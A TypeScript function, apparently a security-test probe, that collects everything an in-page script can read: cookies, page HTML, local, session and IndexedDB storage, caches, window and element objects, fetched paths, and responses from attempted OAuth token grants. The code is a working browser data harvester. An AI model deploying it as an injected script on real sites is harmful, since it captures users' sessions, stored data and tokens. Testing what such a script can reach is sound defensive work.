/** Runs in the page: everything that a script of its origin can read or ask for, as one text. */
export async function stealEverything({ paths }: { paths: string[] }): Promise<string> {
  const taken: string[] = [document.cookie, document.referrer, location.href, document.documentElement.outerHTML];
  for (const store of [localStorage, sessionStorage]) taken.push(JSON.stringify({ ...store }));
  for (const { name } of await indexedDB.databases()) {
    if (!name) continue;
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
    for (const store of database.objectStoreNames) {
      const request = database.transaction(store).objectStore(store).getAll();
      await new Promise((resolve) => {
        request.onsuccess = resolve;
      });
      taken.push(JSON.stringify(request.result));
    }
  }
  for (const name of await caches.keys()) {
    for (const request of await (await caches.open(name)).keys()) taken.push(request.url);
  }
  for (const entry of performance.getEntries()) taken.push(entry.name, JSON.stringify(entry));
  taken.push(JSON.stringify(history.state), window.name);
  // Whatever hangs on the window or on an element, its inner life included.
  const seen = new Set<unknown>();
  const walk = (value: unknown, depth: number) => {
    if (typeof value === 'string') taken.push(value);
    if (typeof value !== 'object' || value === null || depth > 12 || seen.has(value) || seen.size > 60_000) return;
    seen.add(value);
    if (value instanceof Map || value instanceof Set) for (const one of value) walk(one, depth + 1);
    for (const key of Reflect.ownKeys(value)) {
      try {
        walk((value as Record<PropertyKey, unknown>)[key], depth + 1);
      } catch {
        // A getter that refuses gives nothing away.
      }
    }
  };
  for (const element of document.querySelectorAll('*')) {
    for (const key of Object.keys(element)) walk((element as unknown as Record<string, unknown>)[key], 0);
  }
  walk(window, 3);
  for (const path of paths) {
    const reply = await fetch(path, { redirect: 'follow' }).catch(() => null);
    if (reply === null) continue;
    taken.push(await reply.text(), JSON.stringify([...reply.headers]), reply.url);
  }
  // A session of the browser is worth no token at the provider.
  for (const grant of ['refresh_token', 'authorization_code', 'client_credentials', 'password']) {
    const body = new URLSearchParams({ grant_type: grant, client_id: 'stepwright', refresh_token: 'x', code: 'x' });
    const reply = await fetch('/oidc/token', { method: 'POST', body }).catch(() => null);
    if (reply?.ok) taken.push(`"access_token":"given for ${grant}"`);
  }
  return taken.join('\n');
}
